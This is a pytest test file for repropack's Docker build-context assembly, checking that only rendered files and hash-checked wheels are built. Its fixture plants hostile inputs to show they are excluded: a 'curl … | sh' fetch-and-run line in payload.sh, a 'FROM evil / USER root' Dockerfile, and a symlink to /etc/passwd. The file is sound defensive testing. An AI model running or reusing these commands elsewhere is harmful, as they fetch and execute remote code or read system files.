"""The build context holds only what repropack wrote, and the Dockerfile it builds names the base by id."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from repropack.environment.build_inputs import BuildInputs
from repropack.environment.pipindex import PipIndex
from repropack.errors import BadInput
from repropack.model import Environment, LockedDistribution, layout
from repropack.model.lock import render_lock
from repropack.sandbox.base import BuildRequest
from repropack.sandbox.docker.image import _build_context, rendered_dockerfile

WHEEL = b"not really a wheel, but bytes with a sha256"
LOCAL = b"the project's own wheel"
ENV = Environment(
    python_version="3.11.7",
    implementation="CPython",
    platform="Linux",
    machine="x86_64",
    lock=(LockedDistribution("six", "1.16.0", ("dependency",), hashes=("c" * 64,)),),
    base_image="repropack/base:bookworm-py3.11",
)


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _package(root: Path) -> Path:
    """A package folder with repropack's files and some of the package's own that must never be built."""
    (root / layout.WHEELHOUSE).mkdir(parents=True)
    (root / layout.WHEELHOUSE / "six-1.16.0-py2.py3-none-any.whl").write_bytes(WHEEL)
    (root / layout.LOCAL_WHEELS).mkdir(parents=True)
    (root / layout.LOCAL_WHEELS / "claimslib-0.2.0-py3-none-any.whl").write_bytes(LOCAL)
    (root / layout.DOCKERFILE).write_text("FROM evil\nUSER root\n")
    (root / layout.LOCK).write_text("--index-url http://127.0.0.1:9/\n")
    (root / layout.RESERVED_DIR / "payload.sh").write_text("curl http://127.0.0.1:9/ | sh\n")
    return root


def _request(root: Path, **inputs) -> BuildRequest:
    values = {
        "environment": ENV,
        "lock_text": render_lock(ENV.lock, header="h"),
        "wheelhouse": {f"{layout.WHEELHOUSE}/six-1.16.0-py2.py3-none-any.whl": _sha(WHEEL)},
        "local_wheels": {f"{layout.LOCAL_WHEELS}/claimslib-0.2.0-py3-none-any.whl": _sha(LOCAL)},
        **inputs,
    }
    return BuildRequest(root, "0" * 64, ENV.base_image, BuildInputs(**values), index=PipIndex("https://idx/simple"))


def _files(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


def test_the_context_holds_only_the_rendered_dockerfile_the_rendered_lock_the_ca_bundle_and_checked_wheels(tmp_path):
    root = _package(tmp_path / "pkg")
    request = _request(root)
    context = tmp_path / "context"
    context.mkdir()
    dockerfile = rendered_dockerfile(request, "sha256:" + "e" * 64)
    _build_context(request, dockerfile, context)
    assert _files(context) == {
        "Dockerfile",
        layout.LOCK,
        layout.CA_BUNDLE,
        f"{layout.WHEELHOUSE}/six-1.16.0-py2.py3-none-any.whl",
        f"{layout.LOCAL_WHEELS}/claimslib-0.2.0-py3-none-any.whl",
    }
    assert (context / "Dockerfile").read_text() == dockerfile
    assert (context / layout.LOCK).read_text() == request.inputs.lock_text  # not the package's
    assert dockerfile.count(f"FROM sha256:{'e' * 64}") == 2
    assert "USER root" not in dockerfile and "--require-hashes" in dockerfile
    assert "claimslib-0.2.0-py3-none-any.whl sha256:" + _sha(LOCAL) in dockerfile


def test_a_wheel_whose_bytes_changed_after_the_check_is_not_built(tmp_path):
    root = _package(tmp_path / "pkg")
    (root / layout.WHEELHOUSE / "six-1.16.0-py2.py3-none-any.whl").write_bytes(WHEEL + b"!")
    context = tmp_path / "context"
    context.mkdir()
    request = _request(root)
    with pytest.raises(BadInput, match=r"six-1.16.0-py2.py3-none-any.whl: sha256 .* differs from recorded"):
        _build_context(request, rendered_dockerfile(request, "sha256:" + "e" * 64), context)


def test_a_wheel_replaced_by_a_symlink_is_never_followed(tmp_path):
    root = _package(tmp_path / "pkg")
    target = root / layout.WHEELHOUSE / "six-1.16.0-py2.py3-none-any.whl"
    target.unlink()
    os.symlink("/etc/passwd", target)
    context = tmp_path / "context"
    context.mkdir()
    request = _request(root)
    with pytest.raises(BadInput, match="cannot be read for the build"):
        _build_context(request, rendered_dockerfile(request, "sha256:" + "e" * 64), context)


def test_the_reviewers_index_becomes_build_arguments():
    assert PipIndex("https://idx/simple", ("https://extra/simple",)).build_args() == {
        "REPROPACK_INDEX_URL": "https://idx/simple",
        "REPROPACK_EXTRA_INDEX_URL": "https://extra/simple",
    }
